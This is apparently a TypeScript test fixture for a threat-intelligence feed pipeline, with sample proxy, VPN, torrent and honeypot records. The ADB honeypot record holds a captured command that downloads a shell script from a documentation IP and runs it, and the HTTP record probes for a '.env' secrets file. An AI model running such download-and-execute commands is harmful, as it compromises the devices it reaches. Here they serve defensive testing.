import { createHash } from 'node:crypto';
import type { FeedId } from '../../src/modules/feeds/feed-catalog.ts';

const ADB_COMMAND = Buffer.from('shell:cd /data/local/tmp; busybox wget http://198.51.100.7/w.sh; sh w.sh');

/** One valid record per feed, stamped at `nowMs` in the feed's unit. */
export function sampleRecords(nowMs: number): Record<FeedId, Record<string, unknown>> {
  const s = Math.floor(nowMs / 1000);
  const meta = { proxy_ip: '192.0.2.10', server: 'helio-eu-1', pool_id: 7, provider: 'HETZNER' };
  return {
    proxies: { ip: '109.176.45.49', provider: 'BRIGHTDATA', type: 'RESIDENTIAL_PROXY', timestamp: s, country_code: 'US', asn: 16276 },
    anonymizers: {
      range_start: '185.220.101.0',
      range_end: '185.220.101.63',
      provider: 'NORDVPN',
      type: 'COMMERCIAL_VPN',
      timestamp: s,
      country_code: 'DE',
      asn: 4294967294,
    },
    torrents: {
      info_hash: 'a'.repeat(40),
      name: 'ubuntu-24.04.1-desktop-amd64.iso',
      magnet_uri: `magnet:?xt=urn:btih:${'a'.repeat(40)}&dn=ubuntu`,
      total_size: 6_114_656_256,
      piece_length: 262_144,
      file_count: 1,
      files: [{ path: 'ubuntu-24.04.1-desktop-amd64.iso', length: 6_114_656_256 }],
      peers: [{ ip: '73.12.34.56', port: 51413, source: 'DHT', encrypted: true }],
      timestamp: s,
    },
    honeypot_http: {
      timestamp: nowMs,
      tunnel_id: 12,
      domain: 'mail.acme-logistics.com',
      port: 80,
      protocol: 'http',
      meta,
      details: {
        method: 'GET',
        uri: '/.env',
        version: 'HTTP/1.1',
        headers: { host: 'mail.acme-logistics.com', 'user-agent': 'zgrab/0.x' },
      },
      raw: 'GET /.env HTTP/1.1\r\nHost: mail.acme-logistics.com\r\nUser-Agent: zgrab/0.x\r\n\r\n',
      source_ip: '203.0.113.7',
    },
    honeypot_https: {
      timestamp: nowMs,
      tunnel_id: 13,
      domain: 'vpn.northwind-bank.com',
      port: 443,
      protocol: 'https',
      meta,
      details: null,
      source_ip: '2001:db8::1',
    },
    honeypot_dns: {
      timestamp: nowMs,
      tunnel_id: 14,
      domain: 'acme-logistics.com',
      port: 53,
      meta,
      qname: 'x7f3k2.acme-logistics.com',
      qtype: 'A',
      source_ip: '198.51.100.9',
    },
    honeypot_adb: {
      session: '3f9a0c1d2e4b5a69',
      sequential_id: 1,
      command: ADB_COMMAND.toString('base64'),
      hash: createHash('sha256').update(ADB_COMMAND).digest('hex'),
      timestamp: nowMs,
      source_ip: '198.51.100.7',
    },
    ja4t: {
      ip: '109.176.45.49',
      ja4t: '43080_2-4-8-1-3_1436_9',
      provider: 'PROXYJET_DATACENTER',
      type: 'DATACENTER_PROXY',
      timestamp: s,
      country_code: 'US',
      asn: 16276,
    },
  };
}
